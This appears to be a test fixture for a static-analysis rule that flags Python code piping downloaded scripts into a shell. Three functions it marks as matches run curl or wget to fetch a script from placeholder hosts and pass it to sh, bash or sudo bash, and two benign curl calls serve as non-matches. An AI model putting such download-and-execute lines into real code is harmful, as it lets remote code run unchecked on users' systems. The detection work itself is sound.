import os
import subprocess


def update():
    # ruleid: python-shell-download-pipe
    os.system("curl -s http://192.0.2.44:13338/|sh")


def update2():
    # ruleid: python-shell-download-pipe
    subprocess.run("wget -qO- https://setup.example.com/i.sh | sudo bash", shell=True)


def update3():
    # ruleid: python-shell-download-pipe
    subprocess.call(["bash", "-c", 'bash -c "$(curl -fsSL https://setup.example.com/i)"'])


def benign():
    # ok: python-shell-download-pipe
    os.system("curl -s https://api.example.com/v1/status | jq .")
    # ok: python-shell-download-pipe
    subprocess.run(["curl", "-o", "out.json", "https://api.example.com/v1"], check=True)
